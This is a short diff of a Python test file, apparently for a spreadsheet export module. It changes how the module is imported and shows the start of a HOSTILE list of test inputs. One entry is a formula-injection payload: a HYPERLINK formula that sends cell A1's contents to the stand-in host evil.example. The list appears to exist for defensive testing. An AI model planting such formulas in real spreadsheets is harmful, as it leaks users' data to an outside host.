@@ -20,10 +20,9 @@ import openpyxl
 import pandas as pd
 import pytest
 
-REPO = Path(__file__).resolve().parents[1]
-sys.path.insert(0, str(REPO / "apps"))
+from apps import exports
 
-import exports  # noqa: E402
+REPO = Path(__file__).resolve().parents[1]
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")',
